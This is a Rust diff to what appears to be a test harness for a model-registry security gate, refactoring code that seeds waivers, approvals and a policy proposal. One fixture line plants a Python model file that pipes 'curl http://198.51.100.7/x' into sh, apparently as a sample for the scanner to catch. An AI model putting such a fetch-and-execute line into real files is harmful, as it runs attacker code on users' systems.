@@ -47,7 +47,7 @@ async fn main() {
         settings.upstream = Some(Upstream::at("http://127.0.0.1:9"));
     })
     .await;
-    let tokens = fill(&gate).await;
+    let tokens = Box::pin(fill(&gate)).await;
     if let Some(models) = std::env::args().nth(1) {
         multiply(&gate, models.parse().expect("a number of models")).await;
     }
@@ -112,18 +112,7 @@ async fn fill(gate: &TestGate) -> serde_json::Value {
     files.push(("modeling_custom.py", b"import os\nos.system('curl http://198.51.100.7/x | sh')\n".to_vec()));
     gate.import("ada", "someone/fast-summarizer", "production", &parts(&files)).await;
 
-    // Waivers: one that ends soon, one that begins later.
-    for (rule, until, begins) in [("WH-PKL-001", 6, None), ("WH-COD-001", 90, Some(20))] {
-        let day = |days: i64| {
-            let moment = jiff::Timestamp::from_second(gate.clock.load(Ordering::Relaxed) + days * 24 * HOUR);
-            moment.unwrap().strftime("%Y-%m-%d").to_string()
-        };
-        let body = json!({
-            "model": "someone/fast-summarizer", "rules": [rule], "stage": "production", "until": day(until),
-            "begins": begins.map(day), "owner": "search team", "reason": "a demonstration without a network",
-        });
-        act(gate, "/api/v1/waivers", &eve, body).await;
-    }
+    waive(gate, &eve).await;
 
     // Waits for a second approval; waits to be released.
     gate.pass(3 * HOUR);
@@ -155,16 +144,36 @@ async fn fill(gate: &TestGate) -> serde_json::Value {
     let why = "We compare it with the encoder that we use for search; the demonstration is on Thursday.";
     let body = json!({ "model": "openlab/large-chat", "reason": why });
     act(gate, "/api/v1/requests", &ada, body).await;
+    descend_and_propose(gate).await;
+    gate.pass(2 * HOUR);
+    json!({ "admin": gate.admin, "ada": ada, "bob": bob, "eve": eve, "max": max, "visitor": nobody })
+}
+
+/// Waivers: one that ends soon, one that begins later.
+async fn waive(gate: &TestGate, eve: &str) {
+    for (rule, until, begins) in [("WH-PKL-001", 6, None), ("WH-COD-001", 90, Some(20))] {
+        let day = |days: i64| {
+            let moment = jiff::Timestamp::from_second(gate.clock.load(Ordering::Relaxed) + days * 24 * HOUR);
+            moment.unwrap().strftime("%Y-%m-%d").to_string()
+        };
+        let body = json!({
+            "model": "someone/fast-summarizer", "rules": [rule], "stage": "production", "until": day(until),
+            "begins": begins.map(day), "owner": "search team", "reason": "a demonstration without a network",
+        });
+        act(gate, "/api/v1/waivers", eve, body).await;
+    }
+}
+
+/// A model made from another one, and policies that somebody proposes.
+async fn descend_and_propose(gate: &TestGate) {
     // Made from another one, as its card says.
-    let descended = gate.beside_of(|parts| Parts { inspector: Arc::new(Descended), ..parts }).await;
+    let descended = Box::pin(gate.beside_of(|parts| Parts { inspector: Arc::new(Descended), ..parts })).await;
     descended.import("ada", "acme/child-encoder", "research", &parts(&clean("9"))).await;
     let text = "@id(\"house-three-for-production\")\n@message(\"production needs three approvals here\")\n@outcome(\"needs-approval\")\n\
                 forbid (principal, action == Weighhouse::Action::\"release\", resource)\n\
                 when { principal.name == \"production\" && context.approvals < 3 };\n";
     let body = json!({ "texts": [{ "name": "house.cedar", "text": text }], "reason": "Asked for by the audit of May." });
     act(gate, "/api/v1/policy/proposals", &gate.admin, body).await;
-    gate.pass(2 * HOUR);
-    json!({ "admin": gate.admin, "ada": ada, "bob": bob, "eve": eve, "max": max, "visitor": nobody })
 }
 
 async fn release(gate: &TestGate, name: &str, commit: &str) -> String {
